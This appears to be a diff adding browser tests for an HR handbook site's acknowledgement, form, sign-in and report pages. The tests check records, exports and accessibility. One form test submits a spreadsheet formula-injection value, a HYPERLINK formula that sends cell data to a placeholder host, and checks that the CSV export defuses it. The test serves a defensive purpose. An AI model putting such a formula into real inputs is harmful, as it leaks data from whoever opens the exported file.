@@ -1,0 +1,123 @@
+"""In Chromium: the shipped acknowledgement and form pages send to the real service, and HR
+finds the records in the CSV export. Served by `handbook serve`, so the pages are same-origin."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import axe_violations
+from tests.records_kit import TOKEN, Service, get, project_at, quiz_part
+
+pytestmark = pytest.mark.browser
+
+
+@pytest.fixture(scope="module")
+def service(built_site: Path, tmp_path_factory: pytest.TempPathFactory):
+    db = tmp_path_factory.mktemp("browser") / "records.sqlite"
+    running = Service(built_site.parent, built_site, db).start()
+    yield running
+    running.stop()
+
+
+def exported(service: Service, kind: str) -> list[dict[str, str]]:
+    status, _, text = get(f"{service.url}/api/export/{kind}.csv", service.auth())
+    assert status == 200
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_an_acknowledgement_reaches_the_service_and_the_export(service, built_site, page):
+    project = project_at(built_site.parent)
+    policy = project.policy("admin-policy-6")
+    quiz_id = policy.acknowledgement.requires_quiz
+    quiz = quiz_part(project, quiz_id)
+    passed = {key: quiz[key] for key in ("questions", "answers", "score", "pass_mark", "passed", "attempt")}
+    page.goto(f"{service.url}/acknowledge/admin-policy-6.html")
+    # A pass of the self-check on this browser, as quiz.js keeps it (taking the quiz is tested elsewhere).
+    key = f"handbook.quiz.{quiz_id}@{quiz['quiz']['version']}"
+    value = json.dumps({"attempts": 1, "passed": passed})
+    page.evaluate("([key, value]) => localStorage.setItem(key, value)", [key, value])
+    page.reload()
+    page.fill("#ack-name", "Zoë Browser")
+    page.fill("#ack-employee-id", "B-ACK-1")
+    page.fill("#ack-department", "Parks and Recreation")
+    page.select_option("#ack-role", "employee")
+    page.check("#ack-agree")
+    page.fill("#ack-signature", "Zoë Browser")
+    page.click("[data-hb-record-button]")
+    status = page.locator("[data-hb-record-status]")
+    status.filter(has_text="Recorded by the records service").wait_for()
+    assert axe_violations(page) == []
+    rows = [row for row in exported(service, "acknowledgements") if row["employee_id"] == "B-ACK-1"]
+    assert len(rows) == 1
+    row = rows[0]
+    assert (row["name"], row["signature"]) == ("Zoë Browser", "Zoë Browser")
+    assert row["policy_hash"] == policy.content_hash()
+    assert (row["quiz_id"], row["score"], row["passed"], row["source"]) == (quiz_id, "100", "yes", "api")
+    assert row["record_id"] in status.inner_text()
+    assert page.outside_requests == []
+
+
+def test_a_form_reaches_the_service_and_the_export(service, page):
+    page.goto(f"{service.url}/forms/violation-report.html")
+    page.fill("#p-employee-id", "B-FORM-1")
+    page.fill("#p-name", "Form Browser")
+    page.fill("#p-department", "Library")
+    page.select_option("#p-role", "employee")
+    page.fill("#f-where", "Facebook, Library page")
+    page.fill("#f-seen-on", "2026-01-04")
+    page.fill("#f-description", "=HYPERLINK(\"http://x?\"&A1,\"y\") posted as a comment")
+    page.fill("#f-signature", "Form Browser")
+    page.fill("#f-signed-on", "2026-01-05")
+    page.click("form[data-hb-form] button[type=submit]")
+    page.locator("[data-hb-form-status]").filter(has_text="Sent.").wait_for()
+    # Judge the page at rest: Material's focused primary button fails colour contrast (a theme
+    # matter for the forms' CSS, reported to its owner), which is not what this test is about.
+    page.mouse.move(0, 0)
+    page.evaluate("document.activeElement.blur()")
+    assert axe_violations(page) == []
+    rows = {row["field_id"]: row for row in exported(service, "forms") if row["employee_id"] == "B-FORM-1"}
+    assert rows["where"]["answer"] == "Facebook, Library page"
+    assert rows["description"]["answer"] == "'=HYPERLINK(\"http://x?\"&A1,\"y\") posted as a comment"
+    assert rows["signature"]["form_id"] == "violation-report"
+    assert rows["signature"]["answer"] == "Form Browser"
+    assert page.outside_requests == []
+
+
+def test_hr_signs_in_by_keyboard_and_the_report_page_passes_axe(service, built_site, page, tmp_path):
+    page.goto(f"{service.url}/hr")
+    assert axe_violations(page) == []
+    page.keyboard.press("Tab")
+    page.keyboard.type("not the token")
+    page.keyboard.press("Enter")
+    page.get_by_role("alert").filter(has_text="not right").wait_for()
+    assert page.locator("#token").get_attribute("aria-invalid") == "true"
+    assert axe_violations(page) == []
+    page.fill("#token", TOKEN)
+    page.keyboard.press("Enter")
+    page.get_by_role("heading", name="Records stored").wait_for()
+    assert TOKEN not in page.url and "token" not in page.url
+    cookies = {c["name"]: c for c in page.context.cookies()}
+    assert cookies["handbook_hr"]["httpOnly"] and cookies["handbook_hr"]["value"] != TOKEN
+    assert axe_violations(page) == []
+    assert page.evaluate("document.cookie") == ""
+
+
+def test_the_html_report_passes_axe(service, built_site, page, tmp_path):
+    from click.testing import CliRunner
+
+    from generator.cli import main
+
+    roster = Path(__file__).resolve().parent / "fixtures" / "roster.csv"
+    out = tmp_path / "report.html"
+    args = ["report", "--roster", str(roster), "--html", str(out), "--out", str(tmp_path / "status.csv"),
+            "--project", str(built_site.parent), "--db", str(service.db)]
+    result = CliRunner().invoke(main, args)
+    assert result.exit_code == 1 and "roster.csv:8: unknown role 'mayor'" in result.stderr  # bad rows: exit 1
+    page.goto(out.as_uri())
+    page.get_by_role("img", name="Requirements complete, by department").wait_for()
+    assert axe_violations(page) == []
